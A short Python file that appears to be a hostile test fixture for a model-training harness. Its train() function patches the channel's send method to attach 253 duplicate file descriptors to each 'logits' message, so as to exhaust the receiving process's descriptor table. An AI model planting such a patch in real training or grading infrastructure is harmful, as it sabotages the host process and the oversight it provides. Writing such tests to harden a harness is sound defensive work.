"""Sends descriptors along with its messages, as many as fit: a receiver that took them would run out of its own."""

import os
import socket
import struct

from channel_parts import channel_socket
from loop import learn
from prism_runner.channel import Channel

MOST = 253  # a message


def train(ctx):
    connection = channel_socket()
    send = Channel.send
    sent = []

    def send_with_descriptors(self, header, deadline, body=b"", descriptor=-1):
        if header["kind"] != "logits":
            return send(self, header, deadline, body, descriptor)
        return flooded(header)

    def flooded(header):
        import json

        raw = json.dumps(header).encode()
        data = struct.pack("<I", len(raw)) + raw
        reader = os.open("/dev/zero", os.O_RDONLY)
        first = socket.send_fds(connection, [data[:1]], [reader] * MOST)
        connection.sendall(data[first:])
        os.close(reader)
        sent.append(MOST)

    Channel.send = send_with_descriptors
    learn(ctx, ctx.build_model())
    if len(sent) < 100:
        raise RuntimeError("no descriptors were sent")
